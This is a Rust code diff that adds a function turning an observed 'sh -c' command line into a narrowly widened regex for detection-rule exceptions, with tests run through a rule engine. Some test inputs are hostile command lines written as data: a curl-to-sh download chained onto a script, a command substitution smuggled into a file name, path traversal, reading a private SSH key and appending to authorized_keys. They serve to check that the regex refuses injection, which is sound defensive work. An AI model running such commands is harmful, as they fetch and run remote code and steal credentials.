@@ -192,6 +192,11 @@ pub fn ladder(field: &str, values: &[String]) -> Vec<Gen> {
             if let Some(p) = script_prefix(&distinct) {
                 out.push(gen(field, "glob", ExVal::One(p), 2));
             }
+            let rx: Option<BTreeSet<String>> =
+                distinct.iter().map(|v| shell_program_regex(v)).collect();
+            if let Some(r) = rx.filter(|r| r.len() == 1) {
+                out.extend(r.into_iter().map(|r| gen(field, "regex", ExVal::One(r), 2)));
+            }
         }
         Kind::Pod => {
             if let Some(p) = controller_prefix(&distinct) {
@@ -655,6 +660,110 @@ pub fn command_words(words: &[&str]) -> usize {
         return i + 1;
     }
     words.len()
+}
+
+/// A file name's variable part in a shell program's regex: one or more word characters,
+/// never a blank, a `/`, a `.` or a shell metacharacter.
+const RX_WORD: &str = "[A-Za-z0-9_-]+";
+
+/// One literal character in a regex, without a backslash (Falco's quoting cannot carry
+/// one): metacharacters as a one-character class. `None` for the characters a class
+/// cannot hold that way.
+fn rx_char(c: char, out: &mut String) -> Option<()> {
+    match c {
+        '[' | ']' | '\\' | '^' | '"' => return None,
+        '.' | '+' | '*' | '?' | '(' | ')' | '|' | '{' | '}' | '$' => {
+            out.push('[');
+            out.push(c);
+            out.push(']');
+        }
+        c if c.is_control() => return None,
+        c => out.push(c),
+    }
+    Some(())
+}
+
+/// A shell's program (`sh -c PROGRAM`) as a regex that takes the same program on another
+/// file of the same directories: each word that is a path in a fixed, not broad and not
+/// sensitive directory keeps its directory and extension and takes any plain name
+/// (`sh -c /fluentd/scripts/nvme_smart.sh` → `sh -c /fluentd/scripts/[A-Za-z0-9_-]+[.]sh`;
+/// `... > /var/lib/pg/exports/orders_2026-11-05.csv.gz` → `.../[A-Za-z0-9_-]+[.]csv[.]gz`),
+/// a home's owner any plain name, a run of digits elsewhere any run of digits. Everything
+/// else is literal, and no part can take a blank or a shell metacharacter, so no command
+/// can be chained or substituted into what it takes. `None` when nothing widens.
+pub fn shell_program_regex(v: &str) -> Option<String> {
+    let words: Vec<&str> = v.split(' ').collect();
+    if !is_shell_program(&words) {
+        return None;
+    }
+    let mut out = String::with_capacity(v.len() * 2);
+    let mut widened = false;
+    for (i, w) in words.iter().enumerate() {
+        if i > 0 {
+            out.push(' ');
+        }
+        let home = w.strip_prefix("/home/").and_then(|r| r.split_once('/'));
+        let (prefix, path) = match home {
+            Some((owner, rest)) if !owner.is_empty() && !rest.is_empty() => {
+                widened = true;
+                (format!("/home/{RX_WORD}/"), format!("/home/{owner}/{rest}"))
+            }
+            _ => (String::new(), w.to_string()),
+        };
+        let dir = parent_dir(&path).filter(|d| {
+            let fixed = |d: &str| {
+                !BROAD_DIRS.contains(&d)
+                    && !is_sensitive_dir(d)
+                    && d.matches('/').count() >= 2
+                    && !d.contains("/.")
+            };
+            path.starts_with('/') && (fixed(d) || (!prefix.is_empty() && !d.contains("/.")))
+        });
+        if let Some(d) = dir {
+            let name = &path[d.len() + 1..];
+            let (stem, ext) = name.split_once('.').unwrap_or((name, ""));
+            if !stem.is_empty()
+                && stem
+                    .chars()
+                    .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
+            {
+                if prefix.is_empty() {
+                    d.chars().try_for_each(|c| rx_char(c, &mut out))?;
+                } else {
+                    // `/home/OWNER` and what lies below it.
+                    out.push_str(prefix.trim_end_matches('/'));
+                    let rest = d["/home/".len()..].split_once('/').map_or("", |(_, r)| r);
+                    if !rest.is_empty() {
+                        out.push('/');
+                        rest.chars().try_for_each(|c| rx_char(c, &mut out))?;
+                    }
+                }
+                out.push('/');
+                out.push_str(RX_WORD);
+                if !ext.is_empty() {
+                    out.push_str("[.]");
+                    ext.chars().try_for_each(|c| rx_char(c, &mut out))?;
+                }
+                widened = true;
+                continue;
+            }
+        }
+        if !prefix.is_empty() {
+            // A home path not widened by its name: its owner only.
+            out.push_str(&prefix);
+            let rest = &path["/home/".len()..];
+            let rest = rest.split_once('/').map_or("", |(_, r)| r);
+            rest.chars().try_for_each(|c| rx_char(c, &mut out))?;
+            continue;
+        }
+        if !w.is_empty() && w.chars().all(|c| c.is_ascii_digit()) && i > 1 {
+            out.push_str("[0-9]+");
+            widened = true;
+            continue;
+        }
+        w.chars().try_for_each(|c| rx_char(c, &mut out))?;
+    }
+    (widened && safe_for_eq(&out)).then_some(out)
 }
 
 /// The command through its script or subcommand, then anything: `python* /opt/app/job.py *`.
@@ -1135,6 +1244,72 @@ mod tests {
                 .collect()
         )
         .is_none());
+    }
+
+    /// A shell's program widens only by the files of its directories (and a home's owner,
+    /// a digit run), never by a blank or a shell metacharacter: checked through the engine.
+    #[test]
+    fn shell_programs_take_another_file_of_the_same_directory() {
+        let rx = shell_program_regex;
+        assert_eq!(
+            rx("sh -c /fluentd/scripts/nvme_smart.sh").as_deref(),
+            Some("sh -c /fluentd/scripts/[A-Za-z0-9_-]+[.]sh")
+        );
+        assert_eq!(
+            rx("sh -c gzip -c > /var/lib/postgresql/exports/orders_2026-11-05.csv.gz").as_deref(),
+            Some("sh -c gzip -c > /var/lib/postgresql/exports/[A-Za-z0-9_-]+[.]csv[.]gz")
+        );
+        assert_eq!(
+            rx("sh -c formail -ds >> /home/alice/Mail/lists/ops-announce").as_deref(),
+            Some("sh -c formail -ds >> /home/[A-Za-z0-9_-]+/Mail/lists/[A-Za-z0-9_-]+")
+        );
+        // Broad and sensitive directories stay literal: nothing widens, no regex.
+        assert_eq!(rx("sh -c /usr/local/bin/check.sh"), None);
+        assert_eq!(rx("sh -c cp x /etc/cron.d/job"), None);
+        assert_eq!(rx("sh -c cat /root/.ssh/id_rsa"), None);
+        assert_eq!(
+            rx("gzip -c /var/lib/pg/exports/a.csv"),
+            None,
+            "not a shell program"
+        );
+        assert_eq!(
+            rx("sh -c echo [x] /srv/app/data/a.txt"),
+            None,
+            "a class cannot carry it"
+        );
+        // Through the engine: the next script of the directory is taken; a chained or
+        // substituted command, another directory or a traversal is not.
+        let m = |pat: &str, v: &str| {
+            let mut e = quell_rules::engine::Engine::new();
+            let rules = format!("- rule: R\n  desc: d\n  condition: evt.type = execve and proc.cmdline regex \"{pat}\"\n  output: o\n  priority: NOTICE\n");
+            assert!(e.load("r.yaml", &rules).successful, "{pat}");
+            let ev = quell_events::FlatEvent::from_json_line(
+                &serde_json::json!({"evt.type": "execve", "proc.cmdline": v}).to_string(),
+            )
+            .unwrap();
+            e.rule("R").unwrap().matches(&ev)
+        };
+        let p = rx("sh -c /fluentd/scripts/nvme_smart.sh").unwrap();
+        assert!(m(&p, "sh -c /fluentd/scripts/iostat_collect.sh"));
+        assert!(!m(
+            &p,
+            "sh -c /fluentd/scripts/x.sh; curl -s http://203.0.113.7/x | sh"
+        ));
+        assert!(!m(&p, "sh -c /fluentd/scripts/$(curl 203.0.113.7).sh"));
+        assert!(!m(&p, "sh -c /fluentd/scripts/../../tmp/x.sh"));
+        assert!(!m(&p, "sh -c /tmp/scripts/x.sh"));
+        assert!(!m(&p, "sh -c /fluentd/scriptsXx.sh"));
+        let p = rx("sh -c formail -ds >> /home/alice/Mail/lists/ops-announce").unwrap();
+        assert!(m(&p, "sh -c formail -ds >> /home/bob/Mail/lists/db-oncall"));
+        assert!(!m(
+            &p,
+            "sh -c formail -ds >> /home/bob/.ssh/authorized_keys"
+        ));
+        let l = ladder(
+            "proc.cmdline",
+            &s(&["sh -c /fluentd/scripts/nvme_smart.sh"]),
+        );
+        assert!(l.iter().any(|g| g.comp == "regex" && g.level == 2), "{l:?}");
     }
 
     /// Pods of the same controller in another run: a Job's or a CI runner's run id inside
